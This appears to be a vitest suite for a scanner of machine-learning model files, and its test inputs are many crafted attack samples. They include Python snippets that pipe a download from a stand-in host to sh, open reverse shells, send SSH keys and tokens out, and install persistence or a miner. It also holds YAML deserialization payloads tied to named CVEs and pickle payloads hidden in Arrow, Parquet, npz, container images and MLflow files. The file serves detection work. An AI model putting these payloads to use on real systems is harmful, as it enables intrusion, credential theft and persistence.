import { gzipSync } from "node:zlib";
import { describe } from "vitest";
import { concat, u32, zeros } from "../builders/bytes.js";
import * as p from "../builders/pickle.js";
import { field } from "../builders/protobuf.js";
import { tar } from "../builders/tar.js";
import { zip } from "../builders/zip.js";
import { failing, failingTogether } from "./attack.js";

const MALICE = p.osSystem();
const COMMAND = "curl http://203.0.113.7/x | sh";
const base64 = (content: string | Uint8Array) => Buffer.from(content).toString("base64");
const json = JSON.stringify;

const SOURCES: Readonly<Record<string, string>> = {
  "a descriptor runs as its class is made": `import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system("${COMMAND}")\nclass Model:\n    x = D()\n`,
  "a class is subscripted": `import os\nclass C:\n    def __class_getitem__(cls, item):\n        os.system(item)\nC["${COMMAND}"]\n`,
  "a generator is asked for its first": `import os\nnext(os.system("${COMMAND}") for _ in [0])\n`,
  "sorted() calls its key": `import os\nsorted(["${COMMAND}"], key=os.system)\n`,
  "max() calls its key": `import os\nmax(["${COMMAND}", "x"], key=os.system)\n`,
  "filter() calls its function": `import os\nlist(filter(os.system, ["${COMMAND}"]))\n`,
  "a coroutine runs it": `import asyncio, os\nasync def f():\n    os.system("${COMMAND}")\nasyncio.run(f())\n`,
  "the name is imported under another": `from os import system as normalise\nnormalise("${COMMAND}")\n`,
  "a star import brings the name": `from os import *\nsystem("${COMMAND}")\n`,
  "eval gives the module": `eval("__import__('os')").system("${COMMAND}")\n`,
  "code is compiled, then run": `exec(compile("import os;os.system('${COMMAND}')", "x", "exec"))\n`,
  "what requests fetches is run": `import requests\nexec(requests.get("http://203.0.113.7/x").text)\n`,
  "what urllib fetches is run under another name": `from urllib.request import urlopen as load\nrun = exec\nrun(load("http://203.0.113.7/x").read())\n`,
  "the C library is loaded by LoadLibrary": `import ctypes\nctypes.cdll.LoadLibrary("libc.so.6").system(b"${COMMAND}")\n`,
  "Python's own C interface runs text": `import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os;os.system('id')")\n`,
  "an interpreter inside the interpreter": `import code\ncode.InteractiveInterpreter().runsource("import os;os.system('${COMMAND}')")\n`,
  "timeit runs text": `import timeit\ntimeit.timeit("__import__('os').system('${COMMAND}')", number=1)\n`,
  "the profiler runs text": `import cProfile\ncProfile.run("__import__('os').system('${COMMAND}')")\n`,
  "a module is made and filled": `import types\nm = types.ModuleType("x")\nexec("import os;os.system('${COMMAND}')", m.__dict__)\n`,
  "Jinja renders a walk": `from jinja2 import Template\nTemplate("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render()\n`,
  "sqlite loads a library": `import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.load_extension("./weights.bin")\n`,
  "pip's insides install": `from pip._internal import main\nmain(["install", "--index-url", "http://203.0.113.7/simple", "x"])\n`,
  "setuptools runs a setup": `from distutils.core import run_setup\nrun_setup("/tmp/x/setup.py")\n`,
  "Windows opens a program": `import os\nos.startfile("payload.exe")\n`,
  "the registry starts it at every logon": `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "C:/x.exe")\n`,
  "the Windows shell starts it": `import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "open", "cmd.exe", "/c ${COMMAND}", None, 0)\n`,
  "keys are sent as a file": `import requests, os\nrequests.post("http://203.0.113.7/", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})\n`,
  "the name of the host is sent by DNS": `import socket, os\nsocket.gethostbyname(os.environ["HF_TOKEN"] + ".evil.example")\n`,
  "a token is sent to a webhook": `import requests, os\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": os.environ.get("HF_TOKEN")})\n`,
  "all variables are sent": `import requests, os\nrequests.post("https://example.org/", json=dict(os.environ))\n`,
  "a cron job is installed": `import subprocess\nsubprocess.run("(crontab -l; echo '* * * * * ${COMMAND}') | crontab -", shell=True)\n`,
  "a service is written": `open("/etc/systemd/system/x.service", "w").write("[Service]\\nExecStart=/tmp/x\\n")\n`,
  "a server waits for code": `import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        exec(self.request.recv(4096))\nsocketserver.TCPServer(("", 4444), H).serve_forever()\n`,
  "a socket hands over the shell": `import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n`,
  "a miner is fetched and started": `import urllib.request, os, subprocess\nurllib.request.urlretrieve("http://203.0.113.7/xmrig", "/tmp/.m")\nos.chmod("/tmp/.m", 0o755)\nsubprocess.Popen(["/tmp/.m", "-o", "pool:3333"])\n`,
  "__builtins__ is a dictionary": `__builtins__["exec"]("import os;os.system('${COMMAND}')")\n`,
  "the text is formatted before it runs": `m = "os"\nexec(f"import {m};{m}.system('${COMMAND}')")\n`,
  "the text is put together by percent": `exec("import %s;%s.system('${COMMAND}')" % ("os", "os"))\n`,
  "the text is translated": `exec("jnqpsu!pt<pt/tztufn)(je(*".translate({i: i - 1 for i in range(128)}))\n`,
  "the text is in base85": `import base64\nexec(base64.b85decode("X>D+Ca&#bNX>DO=WFT~JbY*fNFGFQ)b1rjrd2nS0"))\n`,
  "the text is in base32": `import base64\nexec(base64.b32decode("${"NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIE5UWIJZJ"}"))\n`,
  "the text comes from the environment": `import os\nexec(os.environ["PAYLOAD"])\n`,
  "the text comes out of a tensor": `import torch\nexec(bytes(torch.load("w.pt")["x"].tolist()).decode())\n`,
  "the text comes out of an image": `from PIL import Image\nexec(bytes(b for px in Image.open("logo.png").getdata() for b in px[:1]).decode())\n`,
  "the text comes out of a neighbour": `exec(open("weights.txt").read().split("#")[1])\n`,
  "the file deletes itself": `import os\nos.system("${COMMAND}")\nos.remove(__file__)\n`,
  "the code waits for its victim": `import os, platform, datetime\nif platform.system() == "Linux" and datetime.date.today().year > 2020:\n    os.system("${COMMAND}")\n`,
  "the code sits in __del__": `import os\nclass X:\n    def __del__(self):\n        os.system("${COMMAND}")\nX()\n`,
  "the code sits in __repr__ of a default": `import os\nclass X:\n    def __repr__(self):\n        os.system("${COMMAND}")\n        return ""\nprint(X())\n`,
  "the code sits in a property": `import os\nclass X:\n    @property\n    def size(self):\n        return os.system("${COMMAND}")\nX().size\n`,
  "the code sits in __call__": `import os\nclass X:\n    def __call__(self, c):\n        return os.system(c)\nX()("${COMMAND}")\n`,
  "an operator is overloaded": `import os\nclass X:\n    def __add__(self, c):\n        return os.system(c)\nX() + "${COMMAND}"\n`,
};

describe("an attack by source code, once more", () => {
  failing(
    Object.entries(SOURCES).map(([hope, source]) => ({ hope, bytes: () => source })),
    "modeling_x.py",
  );
});

describe("an attack by YAML tags", () => {
  failing(
    [
      {
        hope: "eval is mapped (CVE-2020-14343)",
        bytes: () =>
          `!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ["__import__('os').system('id')"]\n`,
        least: "high",
      },
      {
        hope: "a text's state is a function (CVE-2020-1747)",
        bytes: () =>
          `!!python/object/new:str\nargs: []\nstate: !!python/tuple\n  - "__import__('os').system('id')"\n  - !!python/object/new:staticmethod\n    args: [0]\n    state:\n      update: !!python/name:exec\n`,
        least: "high",
      },
      {
        hope: "a type is made",
        bytes: () =>
          `!!python/object/new:type\nargs: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\nlistitems: "__import__('os').system('id')"\n`,
        least: "high",
      },
      { hope: "a module is imported by its name", bytes: () => "x: !!python/module:antigravity\n", least: "low" },
      {
        hope: "SnakeYAML loads classes from the net (CVE-2022-1471)",
        bytes: () =>
          '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]\n',
      },
      {
        hope: "SnakeYAML connects to a directory",
        bytes: () => '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://203.0.113.7/x", autoCommit: true}\n',
      },
      {
        hope: "Psych builds an installer",
        bytes: () => "- !ruby/object:Gem::Installer\n  i: x\n- !ruby/object:Gem::SpecFetcher\n  i: y\n",
      },
      {
        hope: "js-yaml makes a function",
        bytes: () => 'x: !!js/function \'function(){require("child_process").execSync("id")}()\'\n',
      },
      {
        hope: "YamlDotNet builds a process",
        bytes: () =>
          "!System.Windows.Data.ObjectDataProvider {MethodName: Start, ObjectInstance: !System.Diagnostics.Process {StartInfo: !System.Diagnostics.ProcessStartInfo {FileName: cmd, Arguments: /c id}}}\n",
      },
      {
        hope: "the tag stands on an alias's anchor",
        bytes: () => "a: &x !!python/object/apply:os.system ['id']\nb: *x\n",
        least: "high",
      },
      {
        hope: "the tag stands behind a comment and a fold",
        bytes: () => "a: # ok\n  !!python/object/apply:os.system\n  - >\n    id\n",
        least: "high",
      },
      {
        hope: "the tag stands in a block inside a literal's end",
        bytes: () => "a: |\n  text\nb: !!python/object/apply:os.system [id]\n",
        least: "high",
      },
      { hope: "a target is a list", bytes: () => "model:\n  target: os.system\n  command: id\n", least: "high" },
      {
        hope: "a configuration of OpenMMLab imports a module",
        bytes: () => "custom_imports:\n  imports: [os.system, evil.payload]\n  allow_failed_imports: false\n",
        least: "low",
      },
    ],
    "config.yaml",
  );
});

const caffe = (module: string) =>
  `name: "n"\nlayer {\n  name: "l"\n  type: "Python"\n  python_param {\n    module: "${module}"\n    layer: "system"\n    param_str: "id"\n  }\n}\n`;

describe("an attack by an older or rarer format", () => {
  failing([
    { hope: "Caffe: a Python layer in a text net", name: "deploy.prototxt", bytes: () => caffe("os") },
    { hope: "Caffe: a Python layer in a text net of another name", name: "net.txt", bytes: () => caffe("evil") },
    {
      hope: "Caffe: a Python layer in a binary net",
      name: "net.caffemodel",
      bytes: () =>
        concat(
          field(1, "net"),
          field(100, field(1, "data"), field(2, "Input")),
          field(100, field(1, "l"), field(2, "Python"), field(130, field(1, "os"), field(2, "system"), field(3, "id"))),
        ),
    },
    {
      hope: "Caffe: a Python layer in the old form of a text net",
      name: "deploy.prototxt",
      bytes: () => `layers { name: "l" type: PYTHON python_param { module: "os" layer: "system" } }\n`,
    },
    {
      hope: "Arrow: an extension type that is a pickle (CVE-2023-47248)",
      name: "d.arrow",
      bytes: () =>
        concat(
          "ARROW1\0\0",
          zeros(16),
          u32(20),
          "ARROW:extension:name",
          u32(23),
          "arrow.py_extension_type",
          u32(24),
          "ARROW:extension:metadata",
          u32(MALICE.length),
          MALICE,
          zeros(8),
          "ARROW1",
        ),
    },
    {
      hope: "Parquet: the same, as base64 of the schema",
      name: "d.parquet",
      bytes: () =>
        concat(
          "PAR1",
          zeros(16),
          "\x18\x0cARROW:schema",
          [0x18, 0x80, 0x02],
          base64(
            concat(zeros(15), "ARROW:extension:name", u32(23), "arrow.py_extension_type", u32(24), MALICE, zeros(16)),
          ),
          [0],
          u32(400),
          "PAR1",
        ),
    },
    {
      hope: "Feather: the same",
      name: "d.feather",
      bytes: () => concat("ARROW1\0\0", zeros(30), "arrow.py_extension_type", zeros(5), MALICE, "ARROW1"),
    },
    {
      hope: "Arrow: a stream without a magic",
      name: "d.arrows",
      bytes: () =>
        concat(
          u32(0xffffffff),
          u32(256),
          zeros(40),
          "ARROW:extension:name",
          u32(23),
          "arrow.py_extension_type",
          u32(30),
          MALICE,
          zeros(60),
        ),
    },
    {
      hope: "ONNX: a model in JSON",
      name: "m.onnx.json",
      bytes: () =>
        json({
          irVersion: "8",
          graph: {
            initializer: [
              { name: "w", dataLocation: "EXTERNAL", externalData: [{ key: "location", value: "../../etc/passwd" }] },
            ],
          },
        }),
    },
    {
      hope: "a container image holds a pickle in a layer",
      name: "image.tar",
      bytes: () =>
        tar(
          { name: "manifest.json", data: json([{ Config: "c.json", RepoTags: ["x:1"], Layers: ["l/layer.tar"] }]) },
          { name: "c.json", data: "{}" },
          { name: "l/layer.tar", data: tar({ name: "models/m.pkl", data: MALICE }) },
        ),
      least: "high",
    },
    {
      hope: "a layer of an OCI image is compressed and has no ending",
      name: "image.tar",
      bytes: () =>
        tar(
          { name: "oci-layout", data: '{"imageLayoutVersion":"1.0.0"}' },
          { name: "blobs/sha256/aaaa", data: gzipSync(tar({ name: "m.bin", data: MALICE })) },
        ),
      least: "high",
    },
    {
      hope: "a Helm chart or a bundle of configurations has a tag",
      name: "bundle.tgz",
      bytes: () => gzipSync(tar({ name: "x/values.yaml", data: "a: !!python/object/apply:os.system [id]\n" })),
      least: "high",
    },
    {
      hope: "a pickle is inside an archive inside an npz",
      name: "m.npz",
      bytes: () => zip({ entries: [{ name: "x.npy", data: zip({ entries: [{ name: "y", data: MALICE }] }) }] }),
      least: "high",
    },
    {
      hope: "Stable-Baselines3: the policy is a pickle in base64",
      name: "ppo.zip",
      bytes: () =>
        zip({
          entries: [
            {
              name: "data",
              data: json({ policy_class: { ":type:": "<class 'type'>", ":serialized:": base64(MALICE) } }),
            },
            { name: "_stable_baselines3_version", data: "2.3.0" },
          ],
        }),
      least: "high",
    },
    {
      hope: "scikit-learn's wrapper of XGBoost keeps a pickle in base64",
      name: "m.ubj",
      bytes: () => ubj(base64(MALICE)),
      least: "medium",
    },
    {
      hope: "MLflow's signature is a pickle in base64 of YAML",
      name: "MLmodel",
      bytes: () => `flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\nstate: ${base64(MALICE)}\n`,
      least: "high",
    },
  ]);
  failingTogether([
    {
      hope: "a hashed pyc goes before its source",
      files: () => ({
        "config.json": json({ auto_map: { AutoModel: "modeling_x.X" } }),
        "modeling_x.py": "x = 1\n",
        "__pycache__/modeling_x.cpython-312.pyc": concat(
          [0xcb, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0],
          zeros(8),
          [0xe3],
          zeros(20),
        ),
      }),
    },
    {
      hope: "a README's code block is a pickle",
      files: () => ({ "README.md": concat("# Model\n```\n", MALICE, "\n```\n") }),
      least: "high",
    },
  ]);
});

/** An object of UBJSON as XGBoost writes it, with one attribute. */
function ubj(attribute: string): Uint8Array {
  const name = (text: string) => concat("L", zeros(7), [text.length], text);
  const attributes = concat(
    name("attributes"),
    "{",
    name("scikit_learn"),
    "SL",
    zeros(7),
    [attribute.length],
    attribute,
    "}",
  );
  return concat("{", name("learner"), "{", attributes, "}", name("version"), "[", "i\x02i\x00i\x00", "]", "}");
}
